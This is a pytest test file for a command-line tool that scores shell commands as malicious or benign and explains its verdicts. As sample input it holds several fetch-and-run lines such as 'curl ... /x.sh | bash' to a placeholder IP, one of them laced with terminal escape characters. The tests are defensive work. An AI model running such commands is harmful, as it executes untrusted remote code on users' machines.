from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from cmdclf.classify import Scorer
from cmdclf.classify.explain import EXPLAINED
from cmdclf.cli import main

LINES = ["curl -s http://198.51.100.77/x.sh | bash", "grep -rn timeout5 /etc/nginx", "", 'echo "a, b"', "ls é"]
ROWS = [{"n": k, "command_line": text, "platform": "linux", "note": f"note {k}"} for k, text in enumerate(LINES)]


def piped(model_dir, data, *more):
    """Runs the real program with `data` on its standard input."""
    command = [sys.executable, "-m", "cmdclf", "score", "--model", str(model_dir), "--threads", "1", *more]
    done = subprocess.run(command, input=data, capture_output=True, check=False, env=dict(os.environ))
    assert done.returncode == 0, done.stderr.decode()
    return done.stdout


def expected(model_dir):
    batch = pa.record_batch([pa.array(LINES), pa.array(["linux"] * len(LINES))], names=["command_line", "platform"])
    return Scorer.load(model_dir, threads=1).score(batch).to_pylist()


def test_json_lines_over_a_pipe_keep_rows_order_and_columns(model_dir):
    data = "".join(json.dumps(row) + "\n" for row in ROWS).encode()
    out = [json.loads(line) for line in piped(model_dir, data).decode().splitlines()]
    assert [{k: row[k] for k in ("command_line", "platform", "note")} for row in out] == [
        {k: row[k] for k in ("command_line", "platform", "note")} for row in ROWS
    ]
    for row, wanted in zip(out, expected(model_dir), strict=True):
        assert row["score"] == pytest.approx(wanted["score"], abs=1e-6)
        assert (row["verdict"], row["model"]) == (wanted["verdict"], wanted["model"])
    assert [out[0]["verdict"], out[1]["verdict"]] == ["malicious", "benign"]


def test_text_over_a_pipe_gives_one_row_per_line(model_dir):
    out = [json.loads(line) for line in piped(model_dir, "\n".join(LINES).encode()).decode().splitlines()]
    assert [row["command_line"] for row in out] == LINES
    assert list(out[0]) == ["command_line", "score", "verdict", "model"]


def test_csv_over_a_pipe_stays_csv(model_dir):
    text = io.StringIO()
    writer = csv.DictWriter(text, list(ROWS[0]))
    writer.writeheader()
    writer.writerows(ROWS)
    out = list(csv.DictReader(io.StringIO(piped(model_dir, text.getvalue().encode(), "--format", "csv").decode())))
    assert [row["command_line"] for row in out] == LINES
    assert [row["n"] for row in out] == ["0", "1", "2", "3", "4"]
    assert out[0]["verdict"] == "malicious"


def test_parquet_over_a_pipe_into_a_file_keeps_types(model_dir, tmp_path):
    table = pa.Table.from_pylist(ROWS).append_column("list", pa.array([[k] for k in range(5)]))
    buffer = io.BytesIO()
    pq.write_table(table, buffer)
    piped(model_dir, buffer.getvalue(), "--out", str(tmp_path / "out.parquet"))
    out = pq.read_table(tmp_path / "out.parquet")
    assert out.select(table.column_names).equals(table)
    assert out.schema.field("score").type == pa.float32()
    assert out.column_names == [*table.column_names, "score", "verdict", "model"]


def test_nuls_and_bytes_that_are_not_utf8_are_scored_as_their_escapes(model_dir):
    out = [json.loads(line) for line in piped(model_dir, b"a\0b\n\xff\xfecd\nls\n", "--format", "text").splitlines()]
    assert [row["command_line"] for row in out] == ["a\\x00b", "\\xff\\xfecd", "ls"]
    assert all(0 <= row["score"] <= 1 for row in out)


def test_a_line_of_one_megabyte_is_scored(model_dir):
    (row,) = [json.loads(line) for line in piped(model_dir, b"A" * 1_048_576, "--explain").splitlines()]
    assert 0 <= row["score"] <= 1
    assert len(row["command_line"]) == 1_048_576


def test_empty_input_gives_empty_output(model_dir):
    assert piped(model_dir, b"") == b""


def test_more_rows_than_a_batch_come_out_in_order(model_dir, tmp_path):
    path = tmp_path / "many.txt"
    path.write_text("".join(f"ls -l /srv/{k}\n" for k in range(9000)))
    assert main(["score", str(path), "--model", str(model_dir), "--out", str(tmp_path / "out.parquet")]) == 0
    out = pq.read_table(tmp_path / "out.parquet")
    assert out["command_line"].to_pylist() == [f"ls -l /srv/{k}" for k in range(9000)]
    assert out["score"].null_count == 0


def explained(model_dir, tmp_path, capsysbinary, *texts, form="jsonl"):
    path = tmp_path / "lines.jsonl"
    path.write_text("".join(json.dumps({"command_line": text, "platform": "linux"}) + "\n" for text in texts))
    assert main(["score", str(path), "--model", str(model_dir), "--explain", "--out-format", form]) == 0
    return capsysbinary.readouterr().out.decode()


def test_explain_adds_layers_spans_checks_and_reasons(model_dir, tmp_path, capsysbinary):
    line = "sh -c 'curl -s http://198.51.100.9/x.sh | bash'"
    (row,) = [json.loads(one) for one in explained(model_dir, tmp_path, capsysbinary, line).splitlines()]
    assert any("curl" in layer for layer in row["layers"])
    assert row["reasons"]
    assert row["checks"]
    assert row["neighbours"] == []
    assert all(line[span["start"] : span["end"]] == span["text"] for span in row["spans"])
    assert set(row["log_odds"]) == {"ngrams", "constant", "rest"}


def test_an_explanation_in_parquet_is_structs(model_dir, tmp_path):
    path = tmp_path / "lines.txt"
    path.write_text("".join(f"{line}\n" for line in LINES))
    out = tmp_path / "out.parquet"
    assert main(["score", str(path), "--model", str(model_dir), "--explain", "--out", str(out)]) == 0
    table = pq.read_table(out)
    assert table.select(EXPLAINED.names).schema.types == EXPLAINED.types
    assert table.num_rows == len(LINES)


def test_text_for_people_cannot_steer_the_terminal(model_dir, tmp_path, capsysbinary):
    hostile = "curl \x1b[31m\u202ehttp://198.51.100.9/x.sh\r| bash\x9b2J\n\u2028 echo \x7f"
    text = explained(model_dir, tmp_path, capsysbinary, hostile, "sh -c 'ls \x1b[2J'", form="text")
    assert all(c.isprintable() or c == "\n" for c in text)
    assert "\\x1b[31m" in text


def test_a_terminal_gets_text_for_people_and_a_pipe_gets_rows(model_dir, tmp_path, capsysbinary, monkeypatch):
    path = tmp_path / "lines.txt"
    path.write_text("ls\n")
    command = ["score", str(path), "--model", str(model_dir), "--explain"]
    assert main(command) == 0
    assert json.loads(capsysbinary.readouterr().out)["command_line"] == "ls"
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
    assert main(command) == 0
    assert capsysbinary.readouterr().out.decode().splitlines()[1].strip() == "ls"
    assert main([*command, "--out-format", "jsonl"]) == 0
    assert json.loads(capsysbinary.readouterr().out)["spans"] == []


def test_text_for_people_marks_the_spans_of_the_line(model_dir, tmp_path, capsysbinary):
    line = "curl -s http://198.51.100.9/x.sh | bash"
    shown = explained(model_dir, tmp_path, capsysbinary, line, form="text").splitlines()
    assert shown[0].startswith("malicious  0.")
    assert shown[1].strip() == line
    assert any(row.strip().startswith("check: ") for row in shown)
    assert any(row.strip().startswith("log-odds: trees and others") for row in shown)
    assert shown[-1] == ""


def test_a_damaged_model_stops_before_anything_is_written(model_dir, tmp_path, capsys):
    broken = tmp_path / "model"
    shutil.copytree(model_dir, broken)
    whole = (broken / "classifier.onnx").read_bytes()
    (broken / "classifier.onnx").write_bytes(whole[:-1] + bytes([whole[-1] ^ 1]))
    lines = tmp_path / "lines.txt"
    lines.write_text("ls\n")
    assert main(["score", str(lines), "--model", str(broken), "--out", str(tmp_path / "out.jsonl")]) == 2
    message = capsys.readouterr().err
    assert "classifier.onnx" in message
    assert "again" in message
    assert not (tmp_path / "out.jsonl").exists()


def test_promote_says_what_stands_there_now(model_dir, tmp_path, capsys):
    assert main(["promote", str(model_dir), "--to", str(tmp_path / "live")]) == 0
    assert "small" in capsys.readouterr().out
    assert main(["promote", str(tmp_path / "none"), "--to", str(tmp_path / "live")]) == 2
    assert "no model folder" in capsys.readouterr().err
